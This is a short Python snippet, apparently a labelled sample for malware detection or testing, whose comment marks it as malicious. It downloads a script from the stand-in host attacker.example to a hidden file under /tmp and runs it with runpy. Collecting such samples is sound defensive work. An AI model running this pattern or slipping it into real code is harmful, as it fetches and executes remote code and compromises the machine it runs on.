# Malicious: saves a downloaded script to /tmp and runs it with runpy.
import runpy
import urllib.request

urllib.request.urlretrieve("https://attacker.example/agent.py", "/tmp/.agent.py")
runpy.run_path("/tmp/.agent.py", run_name="__main__")
